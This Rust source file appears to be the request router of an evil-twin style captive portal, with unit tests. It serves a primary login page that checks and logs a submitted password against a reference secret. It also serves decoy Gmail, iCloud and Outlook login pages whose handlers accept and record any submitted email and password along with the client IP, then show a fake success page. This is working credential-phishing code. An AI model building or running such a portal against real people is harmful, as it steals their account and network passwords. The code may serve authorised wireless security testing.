//! Request routing for the captive portal
//!
//! The table is checked in a fixed order: selectors, the primary page, decoy
//! pages, the primary login, decoy logins, then 404.

use axum::body::Bytes;
use axum::extract::{ConnectInfo, State};
use axum::http::{header, Method, StatusCode, Uri};
use axum::response::{Html, IntoResponse, Response};
use std::net::SocketAddr;
use std::sync::Arc;

use super::pages;
use super::PortalState;
use crate::models::{LoginAttempt, Outcome, Service};
use crate::parser::parse_form;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Route {
    /// Redirect to the page of the selected service
    Select(Service),
    /// Render a login page
    Page(Service),
    /// Check the submitted secret against the reference value
    PrimaryLogin,
    /// Accept and record whatever was submitted
    DecoyLogin(Service),
    NotFound,
}

pub fn route(method: &Method, path: &str) -> Route {
    if *method == Method::GET {
        if let Some(service) = selector(path) {
            return Route::Select(service);
        }
        if matches!(path, "/" | "/login.html" | "/index.html") {
            return Route::Page(Service::Primary);
        }
        if let Some(service) = decoy_by(path, |slug| format!("/mock_{}_login.html", slug)) {
            return Route::Page(service);
        }
    } else if *method == Method::POST {
        if path == "/login" {
            return Route::PrimaryLogin;
        }
        if let Some(service) = decoy_by(path, |slug| format!("/login/mock{}", slug)) {
            return Route::DecoyLogin(service);
        }
    }
    Route::NotFound
}

fn selector(path: &str) -> Option<Service> {
    if path == "/select_default" {
        return Some(Service::Primary);
    }
    decoy_by(path, |slug| format!("/select_mock_{}", slug))
}

fn decoy_by(path: &str, template: impl Fn(&str) -> String) -> Option<Service> {
    Service::DECOYS
        .into_iter()
        .find(|service| service.slug().is_some_and(|slug| template(slug) == path))
}

/// Path a selector redirects to
pub fn page_path(service: Service) -> String {
    match service.slug() {
        Some(slug) => format!("/mock_{}_login.html", slug),
        None => "/login.html".to_string(),
    }
}

pub(super) async fn dispatch(
    State(portal): State<Arc<PortalState>>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    method: Method,
    uri: Uri,
    body: Bytes,
) -> Response {
    let path = uri.path();
    let route = route(&method, path);
    tracing::debug!("{} {} from {} -> {:?}", method, path, peer, route);

    let client = peer.ip().to_string();
    match route {
        Route::Select(service) => {
            (StatusCode::FOUND, [(header::LOCATION, page_path(service))]).into_response()
        }
        Route::Page(service) => serve_page(&portal, service).await,
        Route::PrimaryLogin => primary_login(&portal, client, &body).await,
        Route::DecoyLogin(service) => decoy_login(&portal, client, service, &body).await,
        Route::NotFound => (StatusCode::NOT_FOUND, "Not Found").into_response(),
    }
}

async fn serve_page(portal: &PortalState, service: Service) -> Response {
    match portal.assets.read(service.page_asset()).await {
        Ok(html) => Html(html).into_response(),
        Err(e) => {
            tracing::error!("Failed to read {}: {}", service.page_asset(), e);
            (StatusCode::INTERNAL_SERVER_ERROR, "Error serving login page.").into_response()
        }
    }
}

async fn primary_login(portal: &PortalState, client: String, body: &[u8]) -> Response {
    let form = match parse_form(body) {
        Ok(form) => form,
        Err(e) => {
            tracing::warn!("Malformed login body from {}: {}", client, e);
            return (StatusCode::INTERNAL_SERVER_ERROR, "Error processing request.").into_response();
        }
    };

    let submitted = form.take("password");
    let accepted = submitted.as_deref() == Some(portal.reference_secret.as_str());
    let outcome = if accepted { Outcome::Accepted } else { Outcome::Rejected };

    portal
        .record(LoginAttempt::now(&client, Service::Primary, form.take("username"), submitted, outcome))
        .await;

    if accepted {
        tracing::info!("Login accepted for {}", client);
        portal.notify_success();
        Html(pages::login_success(Service::Primary)).into_response()
    } else {
        tracing::warn!("Login rejected for {}", client);
        (StatusCode::UNAUTHORIZED, Html(pages::login_failed())).into_response()
    }
}

async fn decoy_login(portal: &PortalState, client: String, service: Service, body: &[u8]) -> Response {
    let form = match parse_form(body) {
        Ok(form) => form,
        Err(e) => {
            tracing::warn!("Malformed {} body from {}: {}", service, client, e);
            return (StatusCode::INTERNAL_SERVER_ERROR, "Error processing request.").into_response();
        }
    };

    portal
        .record(LoginAttempt::now(
            &client,
            service,
            form.take("email"),
            form.take("password"),
            Outcome::Accepted,
        ))
        .await;

    tracing::info!("{} login from {} accepted without verification", service, client);
    portal.notify_success();
    Html(pages::login_success(service)).into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_primary_page_aliases() {
        for path in ["/", "/login.html", "/index.html"] {
            assert_eq!(route(&Method::GET, path), Route::Page(Service::Primary));
        }
        assert_eq!(route(&Method::POST, "/"), Route::NotFound);
    }

    #[test]
    fn test_selectors_redirect_to_pages() {
        assert_eq!(route(&Method::GET, "/select_mock_gmail"), Route::Select(Service::MockGmail));
        assert_eq!(route(&Method::GET, "/select_mock_icloud"), Route::Select(Service::MockICloud));
        assert_eq!(route(&Method::GET, "/select_default"), Route::Select(Service::Primary));
        assert_eq!(page_path(Service::MockGmail), "/mock_gmail_login.html");
        assert_eq!(page_path(Service::MockOutlook), "/mock_outlook_login.html");
        assert_eq!(page_path(Service::Primary), "/login.html");
        assert_eq!(route(&Method::POST, "/select_mock_gmail"), Route::NotFound);
    }

    #[test]
    fn test_decoy_pages_and_logins() {
        assert_eq!(route(&Method::GET, "/mock_outlook_login.html"), Route::Page(Service::MockOutlook));
        assert_eq!(route(&Method::POST, "/login/mockgmail"), Route::DecoyLogin(Service::MockGmail));
        assert_eq!(route(&Method::POST, "/login/mockicloud"), Route::DecoyLogin(Service::MockICloud));
        assert_eq!(route(&Method::GET, "/login/mockgmail"), Route::NotFound);
        assert_eq!(route(&Method::POST, "/login/mockyahoo"), Route::NotFound);
    }

    #[test]
    fn test_primary_login_and_fallthrough() {
        assert_eq!(route(&Method::POST, "/login"), Route::PrimaryLogin);
        assert_eq!(route(&Method::GET, "/login"), Route::NotFound);
        assert_eq!(route(&Method::PUT, "/login"), Route::NotFound);
        assert_eq!(route(&Method::GET, "/favicon.ico"), Route::NotFound);
        assert_eq!(route(&Method::GET, "/index.html/extra"), Route::NotFound);
    }
}
